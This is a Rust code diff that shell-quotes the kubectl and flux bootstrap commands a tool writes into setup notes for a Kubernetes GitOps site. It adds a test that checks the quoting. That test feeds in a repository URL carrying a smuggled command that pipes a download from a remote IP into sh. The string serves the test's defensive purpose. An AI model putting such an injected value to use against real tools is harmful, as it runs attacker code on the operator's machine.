@@ -276,10 +276,13 @@ pub fn notes(site: &Site, units: &[Unit]) -> String {
     if enabled(site, "sealed-secrets") {
         let ns = s.sealing.namespace.as_str();
         let cert = s.sealing.cert.get_ref();
+        let (sh_ns, sh_cert) = (sh(ns), sh(cert.as_str()));
+        let key = format!("sealed-secrets-key-{name}");
+        let sh_key = sh(&key);
         sec.next(&mut o, "The sealing key pair");
         let _ = writeln!(
             o,
-            "Every SealedSecret of the tree is sealed for `{cert}`; the controller must hold its\nprivate key before the `sealed-secrets` unit starts, or it makes a key of its own and\ndecrypts nothing (sealed-secrets@v0.36.6:docs/bring-your-own-certificates.md). With the\nkey pair at hand:\n\n```sh\nkubectl -n {ns} create secret tls sealed-secrets-key-{name} --cert={cert} --key=<private key>\nkubectl -n {ns} label secret sealed-secrets-key-{name} sealedsecrets.bitnami.com/sealed-secrets-key=active\n```\n\nThe controller (`{}` in `{ns}`) keeps every key it has held: values sealed with an older\ncertificate still open after it renews its key (every 30 days by default).\n",
+            "Every SealedSecret of the tree is sealed for `{cert}`; the controller must hold its\nprivate key before the `sealed-secrets` unit starts, or it makes a key of its own and\ndecrypts nothing (sealed-secrets@v0.36.6:docs/bring-your-own-certificates.md). With the\nkey pair at hand:\n\n```sh\nkubectl -n {sh_ns} create secret tls {sh_key} --cert={sh_cert} --key=<private key>\nkubectl -n {sh_ns} label secret {sh_key} sealedsecrets.bitnami.com/sealed-secrets-key=active\n```\n\nThe controller (`{}` in `{ns}`) keeps every key it has held: values sealed with an older\ncertificate still open after it renews its key (every 30 days by default).\n",
             s.sealing.controller
         );
     }
@@ -299,8 +302,10 @@ pub fn notes(site: &Site, units: &[Unit]) -> String {
         None => {
             let _ = writeln!(
                 o,
-                "```sh\nflux bootstrap git --url={} --branch={} --path={root}/clusters/{name}\n```\n",
-                s.gitops.repository, s.gitops.branch
+                "```sh\nflux bootstrap git --url={} --branch={} --path={}\n```\n",
+                sh(&s.gitops.repository),
+                sh(&s.gitops.branch),
+                sh(&format!("{root}/clusters/{name}"))
             );
             match s.gitops.secret.as_deref() {
                 Some("flux-system") => {
@@ -363,6 +368,15 @@ pub fn notes(site: &Site, units: &[Unit]) -> String {
     o
 }
 
+/// `s` as one word of a POSIX shell command, quoted where it needs quoting: the notes'
+/// `sh` blocks are pasted into a shell, and their words come from site files. The site's
+/// grammars already keep these values to safe characters; this holds whatever they admit.
+fn sh(s: &str) -> std::borrow::Cow<'_, str> {
+    // Only a NUL cannot be quoted, and no site value holds one (control characters are
+    // refused where the site is read): an empty word then, never the raw text.
+    shlex::try_quote(s).unwrap_or(std::borrow::Cow::Borrowed("''"))
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -381,6 +395,47 @@ mod tests {
             rest = &body[end..];
         }
         out
+    }
+
+    #[test]
+    fn the_shell_commands_quote_what_the_site_gives_them() {
+        // A URL the GitUrl grammar admits (no whitespace) that a shell would run in part.
+        let url = "https://git.example.org/x;curl${IFS}http://203.0.113.9|sh";
+        let repository = format!("repository = \"{url}\"");
+        let (site, _) = site_with(
+            &[(
+                "repository = \"ssh://git@github.com/CoffeaTeam/coffea-casa-config.git\"",
+                &repository,
+            )],
+            &[],
+        );
+        let text = notes(&site, &units(&site));
+        let line = text
+            .lines()
+            .find(|l| l.starts_with("flux bootstrap git "))
+            .expect("the bootstrap command");
+        // No character a shell acts on stands outside quotes.
+        let (mut quoted, mut bare) = (false, String::new());
+        for c in line.chars() {
+            match c {
+                '\'' => quoted = !quoted,
+                _ if !quoted => bare.push(c),
+                _ => {}
+            }
+        }
+        assert!(!quoted, "{line}");
+        assert!(
+            !bare.contains([';', '|', '&', '$', '`', '(', ')', '<', '>']),
+            "{line}"
+        );
+        let words = shlex::split(line).expect("one shell command");
+        assert_eq!(words.len(), 6, "{line}");
+        assert_eq!(words[3], format!("--url={url}"), "{line}");
+        assert_eq!(words[4], "--branch=main");
+        assert!(words[5].starts_with("--path=out/clusters/"), "{line}");
+        // The safe words of the reference site stay as they are.
+        let (site, _) = site_with(&[], &[]);
+        assert!(notes(&site, &units(&site)).contains("--branch=main"));
     }
 
     #[test]
